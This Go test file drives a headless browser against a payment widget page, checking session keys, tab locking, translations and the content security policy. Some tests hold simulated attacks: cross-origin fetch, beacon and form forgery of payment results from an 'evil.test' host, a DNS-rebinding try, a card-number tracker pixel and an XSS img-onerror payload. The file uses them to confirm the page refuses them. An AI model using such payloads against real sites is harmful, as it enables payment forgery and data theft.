package widgetpage_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"frontdesk/widgetpage"
)

func TestW06AliasKeepsTheFragment(t *testing.T) {
	t.Parallel()
	d, tab := openDesk(t, widgetpage.Config{}), newTab(t)
	open(t, tab, strings.Replace(d.Link(), "localhost", "127.0.0.1", 1))
	d.hear(widgetpage.Claimed)
	until(t, tab, fmt.Sprintf("location.href === %q", d.Origin()+"/"))
}

func TestW08CodeStaysInTheFragment(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := openDesk(t, f.config()), newTab(t)
	v := f.view("one")
	d.Show(v)
	link := d.Link()
	_, code, _ := strings.Cut(link, "#k=")
	open(t, tab, link)
	mounted(t, tab, "uss-one")
	addresses := js[[]string](t, tab, `performance.getEntriesByType('resource').map((e) => e.name)`)
	for _, text := range append(addresses, f.seenReferers()...) {
		if strings.Contains(text, code) {
			t.Errorf("the code was sent: %s", text)
		}
	}
	for _, referer := range f.seenReferers() {
		if referer != d.Origin()+"/" {
			t.Errorf("another site was told %q, want the origin alone", referer)
		}
	}
}

func TestW11AddressBarAfterTheClaim(t *testing.T) {
	t.Parallel()
	d, tab := openDesk(t, widgetpage.Config{}), newTab(t)
	open(t, tab, strings.Replace(d.Link(), "/#", "/?from=bank#", 1))
	see(t, tab, "One moment, please")
	if got := js[string](t, tab, "location.search + '|' + location.hash"); got != "?from=bank|" {
		t.Errorf("query and fragment are %q", got)
	}
}

func TestW12KeyIsInSessionStorageOnly(t *testing.T) {
	t.Parallel()
	d, tab := openDesk(t, widgetpage.Config{}), newTab(t)
	open(t, tab, d.Link())
	see(t, tab, "One moment, please")
	if got := js[string](t, tab, "JSON.stringify([localStorage.length, document.cookie, Object.keys(sessionStorage)])"); got != `[0,"",["frontdesk.key"]]` {
		t.Errorf("stored %s", got)
	}
}

func TestW13OpenedAgain(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, f.view("one"), f.config())
	mounted(t, tab, "uss-one")
	newer := besides(t, tab)
	open(t, newer, d.Link())
	mounted(t, newer, "uss-one")
	see(t, tab, "Opened again")
	until(t, tab, `!mounts.at(-1).live && !document.querySelector('#payment-form') && !sessionStorage.length`)
}

// A tab of before that does not let go of its lock.
func TestW26NewKeyWaitsForNobody(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	c := f.config()
	c.Timers.RetryMax = 300 * time.Millisecond
	d, tab := asked(t, f.view("one"), c)
	mounted(t, tab, "uss-one")
	run(t, tab, `(async () => {
		const {held} = await navigator.locks.query();
		for (const {name} of held) navigator.locks.request(name, {steal: true}, () => new Promise(() => {}));
	})()`)
	see(t, tab, "Open in another tab") // so it thinks, and goes on asking
	until(t, tab, `performance.getEntriesByType('resource').filter((e) => e.name.endsWith('/api/state')).length > 1`)
	newer := besides(t, tab)
	open(t, newer, d.Link())
	mounted(t, newer, "uss-one")
	see(t, tab, "Opened again")
	until(t, tab, `!sessionStorage.length`)
}

func TestW15PageShowsTheMatchCode(t *testing.T) {
	t.Parallel()
	d, tab := openDesk(t, widgetpage.Config{}), newTab(t)
	open(t, tab, d.Link())
	see(t, tab, d.MatchCode())
}

// While the member pays.
func TestW18Attacks(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	v := f.view("one")
	d, tab := asked(t, v, f.config())
	mounted(t, tab, "uss-one")
	attack(t, tab, d)
	d.hear(widgetpage.HostDenied)
	payByCard(t, tab, plainCard)
	if got := d.result(1); got.Token.Reveal() != token(v) || got.Late || got.Second {
		t.Errorf("the payment: %+v", got)
	}
	see(t, tab, "Thank you")
	d.mu.Lock()
	defer d.mu.Unlock()
	if len(d.results) != 1 {
		t.Errorf("%d results, want the member's alone", len(d.results))
	}
}

// attack makes the three tries of a hostile page: from another site, from
// another port of this machine, and under a name that resolves to us. They
// even know the page's key.
func attack(t *testing.T, tab context.Context, d *desk) {
	t.Helper()
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><title>evil</title><iframe name=hidden></iframe>"))
	}))
	defer evil.Close()
	port := evil.URL[strings.LastIndexByte(evil.URL, ':'):]
	key := js[string](t, tab, "sessionStorage['frontdesk.key']")
	script := fmt.Sprintf(`(async () => {
		const page = %q, key = %q, body = JSON.stringify({number: 1, token: 'prt-forged'});
		const told = [];
		const t = async (what) => { try { const r = await what(); told.push(r.type + r.status + await r.text()); } catch (e) { told.push('refused'); } };
		const headers = {'Content-Type': 'application/json', 'X-Widgetpage-Key': key};
		await t(() => fetch(page + '/api/result', {method: 'POST', headers, body}));
		await t(() => fetch(page + '/api/state', {headers}));
		await t(() => fetch(page + '/api/state'));
		await t(() => fetch(page + '/api/result', {method: 'POST', mode: 'no-cors', body}));
		await t(() => fetch(page + '/api/state', {mode: 'no-cors'}));
		navigator.sendBeacon(page + '/api/result', body);
		const form = Object.assign(document.createElement('form'), {method: 'post', action: page + '/api/result', enctype: 'text/plain', target: 'hidden'});
		form.append(Object.assign(document.createElement('input'), {name: body}));
		document.body.append(form);
		form.submit();
		return told.join();
	})()`, d.Origin(), key)
	for name, address := range map[string]string{"another site": "http://evil.test" + port, "another port": "http://localhost" + port} {
		other := besides(t, tab)
		open(t, other, address)
		if got := js[string](t, other, script); got != "refused,refused,refused,refused,refused" {
			t.Errorf("%s was told %s", name, got)
		}
	}
	rebound := besides(t, tab)
	response, err := chromedp.RunResponse(rebound, chromedp.Navigate(strings.Replace(d.Origin(), "localhost", "evil.test", 1)))
	if err != nil || response.Status != http.StatusMisdirectedRequest {
		t.Errorf("the rebound page: %+v, %v", response, err)
	}
	try := fmt.Sprintf(`fetch('/api/state', {headers: {'X-Widgetpage-Key': %q}}).then((r) => r.status + location.host.split(':')[0])`, key)
	if got := js[string](t, rebound, try); got != "421evil.test" {
		t.Errorf("the rebound page got %s", got)
	}
}

func TestW21PolicyLetsThePaymentFormWork(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, f.view("one"), f.config())
	mounted(t, tab, "uss-one")
	run(t, tab, `(() => {
		const form = document.querySelector('#payment-form');
		form.insertAdjacentHTML('beforeend', '<p style="color: red">inline style</p><style>p { margin: 1px }</style>');
		const chunk = document.createElement('script'); // what the form's script loads itself
		chunk.src = mounts[0].config.container && document.querySelector('script[src*=widget]').src + '?chunk';
		chunk.onload = () => { window.chunk = true; };
		document.head.append(chunk);
		const frame = document.createElement('iframe');
		frame.name = 'bank';
		frame.src = new URL('/bank/done', chunk.src);
		frame.onload = () => { // and goes on from there
			frame.onload = () => { window.frame1 = true; };
			frame.src = new URL('/bank/done?second', chunk.src);
		};
		form.append(frame);
		const image = new Image();
		image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
	})()`)
	until(t, tab, "window.chunk && window.frame1")
	payByCard(t, tab, plainCard)
	d.result(1)
	if got := js[[]string](t, tab, "window.violations"); len(got) != 0 {
		t.Errorf("blocked: %q", got)
	}
}

func TestW23BlockedThingsAreReported(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, f.view("one"), f.config())
	mounted(t, tab, "uss-one")
	run(t, tab, `for (let i = 0; i < 3; i++) new Image().src = 'http://tracker.test:81/pixel?card=4111#x' + i`)
	if got := d.hear(widgetpage.Blocked); got.Text != "img-src tracker.test:81" {
		t.Errorf("heard %q", got.Text)
	}
	run(t, tab, `document.querySelector('#help button').click(); document.querySelector('#help form').requestSubmit()`)
	d.hear(widgetpage.Note)
	blocked := 0
	for _, k := range d.heard() {
		if k == widgetpage.Blocked {
			blocked++
		}
	}
	if blocked != 1 {
		t.Errorf("said %d times", blocked)
	}
}

func TestW25ScriptThatDoesNotLoad(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	f.setBroken(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusBadGateway) })
	d, tab := asked(t, f.view("one"), f.config())
	see(t, tab, "could not be loaded")
	if got := d.hear(widgetpage.WidgetFailed); got.SessionID != "one" || got.Text != "script: not loaded" {
		t.Errorf("heard %+v", got)
	}
	f.setBroken(nil)
	run(t, tab, `document.querySelector('#alert button').click()`)
	mounted(t, tab, "uss-one")
	d.hear(widgetpage.Mounted)
	until(t, tab, `document.querySelector('#alert').hidden`)
	if n := js[int](t, tab, `document.querySelectorAll('script[src]').length`); n != 2 {
		t.Errorf("%d scripts, want ours and the payment form's", n)
	}
}

func TestW25ScriptThatIsSilent(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	f.setBroken(func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	c := f.config()
	c.Timers.Script = 200 * time.Millisecond
	d, tab := asked(t, f.view("one"), c)
	see(t, tab, "could not be loaded")
	if got := d.hear(widgetpage.WidgetFailed); got.Text != "script: no answer" {
		t.Errorf("heard %+v", got)
	}
}

func TestScriptIsNotLoadedBeforeItIsNeeded(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, signing(), f.config())
	see(t, tab, "Sign and continue")
	if n := len(f.seenReferers()); n != 0 {
		t.Errorf("%d requests to the payment component while signing", n)
	}
	d.Show(f.view("one"))
	mounted(t, tab, "uss-one")
}

func TestW26OneTabActs(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, f.view("one"), f.config())
	mounted(t, tab, "uss-one")
	copyOf := besides(t, tab)
	key := js[string](t, tab, "sessionStorage['frontdesk.key']")
	open(t, copyOf, d.Origin()+"/app.css") // same origin, and not the page
	run(t, copyOf, fmt.Sprintf("sessionStorage['frontdesk.key'] = %q", key))
	open(t, copyOf, d.Origin())
	see(t, copyOf, "Open in another tab")
	see(t, copyOf, d.MatchCode())
	if n := js[int](t, copyOf, "mounts.length"); n != 0 {
		t.Errorf("the copy mounted %d forms", n)
	}
	call(t, tab, page.Close, cdp.Empty{})
	mounted(t, copyOf, "uss-one")
	payByCard(t, copyOf, plainCard)
	d.result(1)
}

func TestW26GoOnHereInstead(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, f.view("one"), f.config())
	mounted(t, tab, "uss-one")
	other := besides(t, tab)
	open(t, other, d.Origin()+"/app.css")
	run(t, other, fmt.Sprintf("sessionStorage['frontdesk.key'] = %q", js[string](t, tab, "sessionStorage['frontdesk.key']")))
	open(t, other, d.Origin())
	see(t, other, "Go on here instead")
	run(t, other, `document.querySelector('#stage button').click()`)
	mounted(t, other, "uss-one")
	see(t, tab, "Open in another tab")
	until(t, tab, "!mounts.at(-1).live")
}

func TestW41ReturnIntoATabWithoutKey(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, f.view("one"), f.config())
	mounted(t, tab, "uss-one")
	stranger := newTab(t)
	open(t, stranger, d.Origin()+"/?redirectResult=abc")
	see(t, stranger, "needs a link from the desk")
	d.hear(widgetpage.Keyless)
	until(t, tab, "mounts.length === 1 && mounts[0].live")
}

func TestW09PageOfAUsedLink(t *testing.T) {
	t.Parallel()
	d, tab := openDesk(t, widgetpage.Config{}), newTab(t)
	link := d.Link()
	open(t, tab, link)
	see(t, tab, "One moment, please")
	second := newTab(t)
	open(t, second, link)
	see(t, second, "This link has been used")
	d.hear(widgetpage.LinkReused)
	third := newTab(t)
	open(t, third, d.Origin()+"/#k=guess")
	see(t, third, "This link does not work")
}

func TestW63LanguageAndTitle(t *testing.T) {
	t.Parallel()
	f := newForm(t)
	d, tab := asked(t, f.view("one"), f.config())
	mounted(t, tab, "uss-one")
	until(t, tab, `document.documentElement.lang === 'en' && document.title === 'Step 2 of 2 · Fit & Fun Hamburg-Altona'`)
	see(t, tab, "Session valid for 17 minutes")
	v := f.view("two")
	v.Language, v.ValidUntil = "de-AT", time.Now().Add(95*time.Second)
	d.Show(v)
	mounted(t, tab, "uss-two")
	until(t, tab, `document.documentElement.lang === 'de' && document.title.startsWith('Schritt 2 von 2')`)
	see(t, tab, "Sitzung noch 1:3")
	v.Language, v.Kind = "xx", widgetpage.Done
	d.Show(v)
	until(t, tab, `document.documentElement.lang === 'en' && document.title.startsWith('Done, close this tab')`)
}

// In each language everything fits on a narrow screen, the longest words too.
func TestW63EveryLanguage(t *testing.T) {
	t.Parallel()
	v := signing()
	v.Total, v.ContractSignature = 3, true
	d, tab := asked(t, v, widgetpage.Config{})
	do(t, tab, chromedp.EmulateViewport(320, 700))
	for tag, c := range map[string]struct{ lang, title, button string }{
		"de-CH": {"de", "Schritt 1 von 3", "Unterschreiben und weiter"},
		"en":    {"en", "Step 1 of 3", "Sign and continue"},
		"fr":    {"fr", "Étape 1 sur 3", "Signer et continuer"},
		"it_IT": {"it", "Passo 1 di 3", "Firma e continua"},
		"es-ES": {"es", "Paso 1 de 3", "Firmar y seguir"},
		"nl":    {"nl", "Stap 1 van 3", "Ondertekenen en verder"},
		"pt-PT": {"en", "Step 1 of 3", "Sign and continue"},
	} {
		v.Language = tag
		d.Show(v)
		until(t, tab, fmt.Sprintf("document.documentElement.lang === %q && document.title === %q", c.lang, c.title+" · "+v.Studio))
		see(t, tab, c.button)
		if n := js[int](t, tab, "document.documentElement.scrollWidth - innerWidth"); n > 0 {
			t.Errorf("%s: %d pixels too wide", tag, n)
		}
	}
}

// Nobody's text becomes part of the page.
func TestTextsAreNotHTML(t *testing.T) {
	t.Parallel()
	v := signing()
	const nasty = `<img src=x onerror="window.owned=1"><b>bold</b>`
	v.Studio, v.Title, v.Purpose, v.Amount = nasty, nasty, nasty, nasty
	v.Texts[0].Title, v.Texts[0].Body, v.Texts[0].LinkTitle = nasty, nasty, nasty
	v.Texts[0].LinkURL = "https://studio.example/rules.pdf"
	_, tab := asked(t, v, widgetpage.Config{})
	see(t, tab, "Sign and continue")
	if n := js[int](t, tab, "document.querySelectorAll('img, b').length + (window.owned || 0)"); n != 0 {
		t.Errorf("%d elements came out of texts", n)
	}
	see(t, tab, nasty)
}

// One page, one script, one style sheet; and how soon something is to be seen.
func TestPageIsThereAtOnce(t *testing.T) {
	t.Parallel()
	d, tab := openDesk(t, widgetpage.Config{}), newTab(t)
	open(t, tab, d.Link())
	see(t, tab, "One moment, please")
	if got := js[string](t, tab, `performance.getEntriesByType('resource').filter((e) => e.initiatorType !== 'fetch').map((e) => new URL(e.name).pathname).sort().join()`); got != "/app.css,/app.js" {
		t.Errorf("the page loads %s", got)
	}
	until(t, tab, `performance.getEntriesByName('first-contentful-paint').length`)
	t.Logf("first contentful paint after %.0f ms", js[float64](t, tab, `performance.getEntriesByName('first-contentful-paint')[0].startTime`))
}
